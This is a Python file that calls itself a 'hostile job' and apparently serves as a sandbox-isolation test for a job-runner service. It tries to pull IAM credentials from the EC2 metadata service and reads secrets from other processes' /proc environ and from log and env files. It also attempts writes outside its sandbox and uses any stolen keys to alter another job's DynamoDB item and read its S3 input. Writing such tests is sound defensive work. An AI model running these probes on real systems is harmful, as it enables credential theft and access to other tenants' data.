"""A hostile job: it looks for credentials and the worker's secrets everywhere it can, tries
to use what it found, tries to write outside its sandbox, and writes what it got into
found.json. Standard library only (boto is used if it happens to be importable): it runs
as the job's user with the host's python3. Every list in found.json must stay empty."""

import contextlib
import json
import os
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

ALLOWED = {"CBAS_CHECKPOINT_DIR", "CBAS_JOB_ID", "CBAS_ATTEMPT"}
SECRET_NAMES = ("AWS_", "CBAS_")
IMDS_PATHS = [
    "user-data",
    "meta-data/iam/info",
    "meta-data/iam/security-credentials/",
    "meta-data/iam/security-credentials/cbas-worker",
    "meta-data//iam/security-credentials/",
    "meta-data/identity-credentials/ec2/security-credentials/ec2-instance",
]

state = Path(os.environ["CBAS_CHECKPOINT_DIR"])
root = state.parent  # <jobs>/<job_id>
home = root.parent.parent
own = [root / "work", root / "state", root / "tmp"]
found = {"imds": [], "env": [], "proc_environ": [], "files": [], "aws": [], "writes": []}
tried = {"imds": [], "files": 0, "proc": 0}
credentials = []
instance_ids = []


def secret_keys(names):
    return sorted(n for n in names if n.startswith(SECRET_NAMES) and n not in ALLOWED)


def http(method, url, headers):
    try:
        request = urllib.request.Request(url, method=method, headers=headers)
        with urllib.request.urlopen(request, timeout=5) as response:
            return response.status, response.read().decode(errors="replace")
    except urllib.error.HTTPError as exc:
        return exc.code, ""
    except OSError as exc:
        return 0, repr(exc)


def endpoint():
    """The IMDS endpoint of this job's instance, which the test hands over (the attacker is
    assumed to know it; on an instance, EC2's firewall rule keeps the job's uid out)."""
    deadline = time.monotonic() + 30
    given = Path("imds-endpoint")
    while time.monotonic() < deadline:
        if given.exists() and given.read_text().strip():
            return given.read_text().strip()
        time.sleep(0.1)
    return None


def imds():
    base = endpoint()
    if base is None:
        found["imds"].append("no endpoint handed over")
        return
    instance_ids.append(base.rstrip("/").rsplit("/", 1)[-1])
    ttl = {"X-aws-ec2-metadata-token-ttl-seconds": "60"}
    _, token = http("PUT", base + "/latest/api/token", ttl)
    for path in IMDS_PATHS:
        status, body = http("GET", f"{base}/latest/{path}", {"X-aws-ec2-metadata-token": token})
        tried["imds"].append([path, status])
        if status == 200:
            found["imds"].append([path, body[:200]])
            if "SecretAccessKey" in body:
                credentials.append(json.loads(body))


def environment():
    found["env"] = secret_keys(os.environ)


def proc_environ():
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        tried["proc"] += 1
        try:
            data = (entry / "environ").read_bytes()
        except OSError:
            continue
        names = [item.split(b"=", 1)[0].decode(errors="replace") for item in data.split(b"\0")]
        if secret_keys(names):
            found["proc_environ"].append([entry.name, secret_keys(names)])


def files():
    targets = [
        home / "local.env",
        root / "logs" / "stdout",
        root / "logs" / "stderr",
        root / "logs" / "dmtcp_coordinator.out",
    ]
    for top in (home, root / "logs", root / "staging", root / "download"):
        for folder, _, names in os.walk(top):
            if not any(Path(folder).is_relative_to(mine) for mine in own):
                targets += [Path(folder) / name for name in names]
    instances = home / "instances"
    for instance_id in instance_ids:
        targets.append(instances / instance_id / "worker.log")
    for target in targets:
        tried["files"] += 1
        with contextlib.suppress(OSError):
            found["files"].append([str(target), target.read_text(errors="replace")[:100]])


def writes():
    for folder in (home, home / "jobs", root, root / "logs", root / "staging", home / "instances"):
        target = folder / "hostile-was-here"
        try:
            target.write_text("x")
            found["writes"].append(str(target))
        except OSError:
            pass


def use_credentials():
    """With whatever was found: write the other job's item, read its input."""
    if not credentials:
        return
    try:
        import boto3
    except ImportError:
        found["aws"].append("credentials found, no boto3 to use them")
        return
    for creds in credentials:
        session = boto3.session.Session(
            aws_access_key_id=creds["AccessKeyId"],
            aws_secret_access_key=creds["SecretAccessKey"],
            aws_session_token=creds.get("Token"),
            region_name="us-east-1",
        )
        attack(session, "update_item", other_item)
        attack(session, "get_object", other_input)


def other_item(session):
    session.client("dynamodb", endpoint_url=os.environ["MOTO_URL"]).update_item(
        TableName=os.environ["JOBS_TABLE"],
        Key={"job_id": {"S": os.environ["OTHER_JOB"]}},
        UpdateExpression="SET hacked = :x",
        ExpressionAttributeValues={":x": {"S": "yes"}},
    )


def other_input(session):
    session.client("s3", endpoint_url=os.environ["MOTO_URL"]).get_object(
        Bucket=os.environ["BUCKET"], Key=os.environ["OTHER_INPUT"]
    )


def attack(session, name, call):
    try:
        call(session)
        found["aws"].append(name)
    except Exception as exc:  # a refusal is what we hope for
        tried.setdefault("aws", []).append([name, repr(exc)[:200]])


for step in (imds, environment, proc_environ, files, writes, use_credentials):
    step()
Path("found.json").write_text(json.dumps({"found": found, "tried": tried}, indent=1))
print(json.dumps(found), file=sys.stderr)
